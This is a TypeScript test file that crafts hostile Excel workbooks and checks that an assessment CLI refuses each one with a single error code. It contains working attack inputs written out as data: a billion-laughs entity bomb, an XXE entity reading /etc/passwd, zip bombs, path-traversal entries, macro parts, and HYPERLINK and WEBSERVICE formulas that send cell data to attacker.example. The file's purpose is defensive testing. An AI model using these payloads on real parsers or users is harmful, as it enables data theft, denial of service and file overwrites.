/**
 * Hostile workbooks (DESIGN.md §7), made here in a temporary folder and run through the BUILT
 * command as a user would: one error line at the file (or the cell), exit 2, no stack trace,
 * bounded time; in-process, the same codes and a bounded memory rise.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { loadAssessmentsAny } from "../../../src/io/load-any.js";
import { BIN } from "../../helpers.js";
import { declareSize, pack, tableWorkbook, zeros } from "./make.js";

// Workbooks are built and read through the CLI: slow on a loaded machine, bounded here.
vi.setConfig({ testTimeout: 120_000 });

const dir = mkdtempSync(join(tmpdir(), "egov-hostile-xlsx-"));
const table = () => tableWorkbook([["id", "publication.web-portal"], ["moh", 3]]);
const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>`;
const manyStrings = `<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${Array.from({ length: 600_000 }, (_, i) => `<si><t>s${i}</t></si>`).join("")}</sst>`;

/** name → [bytes, expected `location  error  CODE`]. */
const cases: Record<string, () => [Uint8Array, string]> = {
  "not-a-zip.xlsx": () => [new TextEncoder().encode("id,publication.web-portal\nmoh,3\n"), "1:1  error  XLSX_NOT_A_WORKBOOK"],
  "old-or-encrypted.xlsx": () => [new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...zeros(504)]), "1:1  error  XLSX_NOT_A_WORKBOOK"],
  "word-document.xlsx": () => [pack({ "[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>" }), "1:1  error  XLSX_NOT_A_WORKBOOK"],
  "declared-3gb.xlsx": () => [declareSize(pack(table()), "xl/worksheets/sheet1.xml", 3_000_000_000), "1:1  error  XLSX_TOO_LARGE"],
  "lying-size.xlsx": () => [declareSize(pack(tableWorkbook([["id"], ["moh"]], { "xl/worksheets/sheet1.xml": `<worksheet>${" ".repeat(20_000_000)}</worksheet>` })), "xl/worksheets/sheet1.xml", 1000), "1:1  error  XLSX_TOO_LARGE"],
  "zip-bomb.xlsx": () => [pack({ ...table(), "xl/media/image1.png": zeros(12_000_000) }), "1:1  error  XLSX_TOO_LARGE"],
  "shared-strings-huge.xlsx": () => [pack({ ...table(), "xl/sharedStrings.xml": manyStrings }), "1:1  error  XLSX_TOO_LARGE"],
  "billion-laughs.xlsx": () => [pack({ ...table(), "xl/sharedStrings.xml": laughs }), "1:1  error  XLSX_ENTITY"],
  "entity-unread-part.xlsx": () => [pack({ ...table(), "docProps/custom.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' }), "1:1  error  XLSX_ENTITY"],
  "external-link.xlsx": () => [pack({ ...table(), "xl/externalLinks/externalLink1.xml": "<externalLink/>" }), "1:1  error  XLSX_EXTERNAL_LINK"],
  "macros.xlsm": () => [pack({ ...table(), "xl/vbaProject.bin": new Uint8Array([1, 2, 3]) }), "1:1  error  XLSX_MACROS"],
  "macro-content-type.xlsx": () => {
    const parts = table();
    parts["[Content_Types].xml"] = String(parts["[Content_Types].xml"]).replace("sheet.main+xml", "sheet.macroEnabled.main+xml");
    return [pack(parts), "1:1  error  XLSX_MACROS"];
  },
  "climbing-path.xlsx": () => [pack({ ...table(), "../../outside.txt": "x" }), "1:1  error  XLSX_UNSAFE_PATH"],
  "absolute-path.xlsx": () => [pack({ ...table(), "/etc/cron.d/x": "x" }), "1:1  error  XLSX_UNSAFE_PATH"],
  "malformed-xml.xlsx": () => [pack({ ...table(), "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row>" }), "1:1  error  XLSX_NOT_A_WORKBOOK"],
  "formula-hyperlink.xlsx": () => [pack(tableWorkbook([["id", "name", "publication.web-portal"], ["moh", '=HYPERLINK("https://attacker.example/?leak="&A2,"Ministry")', 3]])), "Agencies!B2  error  XLSX_FORMULA"],
  "formula-webservice.xlsx": () => [pack(tableWorkbook([["id", "publication.web-portal"], ["moh", '=WEBSERVICE("https://attacker.example/")']])), "Agencies!B2  error  XLSX_FORMULA"],
};

beforeAll(() => {
  for (const [name, make] of Object.entries(cases)) writeFileSync(join(dir, name), make()[0]);
});

describe("hostile workbooks through the built CLI", () => {
  for (const [name, make] of Object.entries(cases)) {
    it(`${name}: one line, exit 2, bounded`, () => {
      const start = performance.now();
      const result = spawnSync(process.execPath, [BIN, "report", name, "--rubric", "egov-maturity", "--format", "json"], { cwd: dir, encoding: "utf8", timeout: 20_000, env: { ...process.env, NO_COLOR: "1" } });
      const ms = performance.now() - start;
      const lines = result.stderr.split("\n").filter((l) => /  error  /.test(l));
      expect(lines).toHaveLength(1);
      expect(lines[0]).toContain(`${name}:${make()[1]}`);
      expect(result.status).toBe(2);
      expect(result.stdout).toBe("");
      expect(result.stderr).not.toMatch(/\n\s+at /);
      // Start-up and a loaded machine included; the work itself is measured below.
      expect(ms).toBeLessThan(30_000);
    });
  }
});

describe("hostile workbooks in process: time and memory", () => {
  it("every case is refused within 2 seconds of CPU and 300 MB", () => {
    for (const name of Object.keys(cases)) {
      const before = process.memoryUsage().rss;
      // CPU time, not wall time: eight test runs may share two cores.
      const start = process.cpuUsage();
      const load = loadAssessmentsAny(join(dir, name), { rubric: "egov-maturity" });
      const cpu = process.cpuUsage(start);
      const ms = (cpu.user + cpu.system) / 1000;
      expect(load.assessments, name).toEqual([]);
      expect(load.problems.length, name).toBe(1);
      expect(ms, name).toBeLessThan(2000);
      expect(process.memoryUsage().rss - before, name).toBeLessThan(300 * 1048576);
    }
  });
});
